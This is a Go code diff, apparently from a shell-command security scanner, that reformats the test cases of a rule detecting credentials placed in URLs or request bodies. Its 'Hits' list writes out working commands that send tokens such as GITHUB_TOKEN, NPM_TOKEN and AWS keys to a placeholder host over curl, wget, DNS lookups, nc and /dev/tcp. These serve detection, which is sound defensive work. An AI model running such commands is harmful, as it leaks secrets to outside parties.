@@ -236,11 +236,15 @@ var secrets = []rules.Rule{
 		ID: "secrets.variable", Class: rules.Exposure, Effect: grammar.Uploads | grammar.Connects, Variable: secretName,
 		Reason: "puts a credential into a URL or a body, where others keep it",
 		Hint:   "hand it over in an Authorization header",
-		Hits: []string{`curl -d "$GITHUB_TOKEN" http://h/`, `curl -d "token: $GITHUB_TOKEN" http://h/`, `curl "http://h/?t=$GH_TOKEN"`, `wget -qO- "http://h/${AWS_SECRET_ACCESS_KEY}"`,
-			`nslookup $(echo $GITHUB_TOKEN | head -c 60).h.example.com`, `curl "http://h/?t=$(printenv GITHUB_TOKEN)"`, `t=$(echo $NPM_TOKEN | base64); wget "http://h/$t"`, `echo $GITHUB_TOKEN | curl -d @- http://h/`, `echo $NPM_TOKEN | nc h 1`, `nc h 1 <<< "$NPM_TOKEN"`, `echo $NPM_TOKEN > /dev/tcp/h/1`},
-		Misses: []string{`curl -H "Authorization: Bearer $GITHUB_TOKEN" http://h/`, `curl -d "$BODY" http://h/`, `curl "http://h/$ID"`, `echo "$TOKEN_COUNT"`,
+		Hits: []string{
+			`curl -d "$GITHUB_TOKEN" http://h/`, `curl -d "token: $GITHUB_TOKEN" http://h/`, `curl "http://h/?t=$GH_TOKEN"`, `wget -qO- "http://h/${AWS_SECRET_ACCESS_KEY}"`,
+			`nslookup $(echo $GITHUB_TOKEN | head -c 60).h.example.com`, `curl "http://h/?t=$(printenv GITHUB_TOKEN)"`, `t=$(echo $NPM_TOKEN | base64); wget "http://h/$t"`, `echo $GITHUB_TOKEN | curl -d @- http://h/`, `echo $NPM_TOKEN | nc h 1`, `nc h 1 <<< "$NPM_TOKEN"`, `echo $NPM_TOKEN > /dev/tcp/h/1`,
+		},
+		Misses: []string{
+			`curl -H "Authorization: Bearer $GITHUB_TOKEN" http://h/`, `curl -d "$BODY" http://h/`, `curl "http://h/$ID"`, `echo "$TOKEN_COUNT"`,
 			`curl -H "Authorization: Bearer $(printenv GITHUB_TOKEN)" http://h/`, `echo $GITHUB_TOKEN | docker login h.example.com -u x --password-stdin`, `echo $GITHUB_TOKEN | gh auth login --with-token`, `npm config set //h.example.com/:_authToken "$NPM_TOKEN"`,
-			`s=$(printf %s "$BODY" | openssl dgst -sha256 -hmac "$WEBHOOK_SECRET"); curl -H "X-Signature: $s" -d "$BODY" http://h/`, `echo ${#GITHUB_TOKEN} | nc h 1`},
+			`s=$(printf %s "$BODY" | openssl dgst -sha256 -hmac "$WEBHOOK_SECRET"); curl -H "X-Signature: $s" -d "$BODY" http://h/`, `echo ${#GITHUB_TOKEN} | nc h 1`,
+		},
 	},
 	{
 		ID: "secrets.variable-shown", Class: rules.Exposure, Program: "printenv", Operand: secretName, OutputUnkept: true,
